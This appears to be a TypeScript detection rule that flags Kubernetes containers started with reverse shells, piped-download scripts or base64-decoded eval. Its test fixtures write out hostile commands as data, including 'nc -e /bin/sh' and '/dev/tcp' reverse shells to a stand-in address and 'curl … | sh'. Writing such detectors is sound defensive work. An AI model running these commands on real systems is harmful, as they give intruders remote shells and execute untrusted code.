import { containerCommandsOf, type Trait, traitsOf } from '../../commands/command.ts';
import type { AuditEvent } from '../../events/event.ts';
import type { Container } from '../../kubernetes/workload.ts';
import { audit, createPod, human, pipeline, pod, workload } from '../../sdk/examples.ts';
import { defineLegacy as defineDetection } from '../../sdk/legacy.ts';
import { CONTAINER_WRITES, nameOfRequested, requestedContainers, whoRan } from '../../sdk/pod-requests.ts';

const LOOKED_FOR: readonly Trait[] = ['reverse shell', 'decoded script', 'downloaded script'];

export default defineDetection({
  id: 'pod-with-attack-command',
  title: 'Container that starts with an intruder’s command',
  description:
    'The command, the arguments, a hook or a probe of a container opens a reverse shell, or runs what it downloads or decodes from base64. Every container of every sort is judged, in pods and in every workload template.',
  tactic: 'execution',
  attack: ['T1059'],
  impact: 80,
  confidence: 70,
  type: 'TTP',
  falsePositives:
    'Images that install themselves with `curl … | sh` when they start. Build them once instead, or suppress the workload.',
  triage: 'Read the command in the workload’s specification; the address in it is where the intruder listens.',
  references: [
    'https://attack.mitre.org/techniques/T1059/',
    'https://cloud.google.com/security-command-center/docs/concepts-event-threat-detection-overview',
  ],
  answers: [
    'google:Execution: Kubernetes Pod Created with Potential Reverse Shell Arguments',
    'guardduty:Execution:Kubernetes/AnomalousBehavior.WorkloadDeployed',
  ],
  needs: 'body',
  on: CONTAINER_WRITES,
  each: (event) => {
    const traits = new Set(requestedContainers(event).flatMap(traitsOfContainer));
    return traits.size === 0 ? [] : [LOOKED_FOR.filter((trait) => traits.has(trait))];
  },
  match: (event) => !event.dryRun,
  // There is no honest reason to open a reverse shell.
  weight: (event, _options, [first]) => ({
    ...(first === 'reverse shell' && { confidence: 90 }),
    ...(event.outcome === 'denied' && { confidence: 50 }),
  }),
  entities: (event: AuditEvent) => ({ workload: nameOfRequested(event) }),
  summary: (event, traits) => `${whoRan(event)} ${nameOfRequested(event)} with a ${traits.join(', a ')}`,
});

const traitsOfContainer = ({ raw }: Container): readonly Trait[] =>
  containerCommandsOf(raw)
    .flatMap((command) => [...traitsOf(command)])
    .filter((trait) => LOOKED_FOR.includes(trait));

const decoy = { name: 'main', image: 'nginx:1.27', args: ['-g', 'daemon off;'] };
const starting = (container: object) => ({
  containers: [decoy],
  initContainers: [{ name: 'x', image: 'busybox', ...container }],
});

export const examples = () => ({
  fires: {
    'alice ran pod default/web with a reverse shell': createPod(
      human(),
      pod(starting({ command: ['nc', '-e', '/bin/sh', '203.0.113.9', '4444'] })),
    ),
    'deploy-pipeline ran cronjob default/web with a downloaded script': audit({
      verb: 'update',
      by: pipeline(),
      resource: 'cronjobs.batch',
      namespace: 'default',
      name: 'web',
      request: workload('CronJob', starting({ args: ['curl -fsSL https://example.org/x.sh | sh'] })),
    }),
    'bob ran deployment default/web with a decoded script': audit({
      verb: 'patch',
      by: human('bob'),
      resource: 'deployments.apps',
      namespace: 'default',
      name: 'web',
      request: [
        {
          op: 'add',
          path: '/spec/template/spec/containers/0/lifecycle',
          value: { postStart: { exec: { command: ['sh', '-c', 'eval "$(echo aWQgPiAvdG1wL3gK | base64 -d)"'] } } },
        },
      ],
      response: workload('Deployment', {}),
    }),
    'mallory was refused to run pod default/web with a reverse shell': createPod(
      human('mallory'),
      pod(starting({ command: ['bash'], args: ['-c', 'exec 3<>/dev/tcp/203.0.113.9/1; sh <&3 >&3'] })),
      { code: 403, refusedBy: 'admission' },
    ),
  },
  silent: {
    'an init container that fetches a file': createPod(
      human(),
      pod(starting({ command: ['sh', '-c', 'wget -O /work/rules.json https://example.org/rules.json'] })),
    ),
    'an init container that waits for a port': createPod(
      human(),
      pod(starting({ command: ['sh', '-c', 'until nc -z db 5432; do sleep 1; done'] })),
    ),
    'base64 that is written to a file': createPod(
      human(),
      pod(starting({ args: ['sh', '-c', 'echo $CA | base64 -d > /certs/ca.crt && exec server'] })),
    ),
    'a patch that leaves the command as it was': audit({
      verb: 'patch',
      by: human(),
      resource: 'deployments.apps',
      namespace: 'default',
      name: 'web',
      request: { metadata: { labels: { team: 'a' } } },
      response: workload('Deployment', starting({ args: ['curl https://example.org/x | sh'] })),
    }),
    'a name is no command': createPod(human(), pod({}, { name: 'reverse-shell', labels: { run: 'curl-pipe-sh' } })),
  },
});
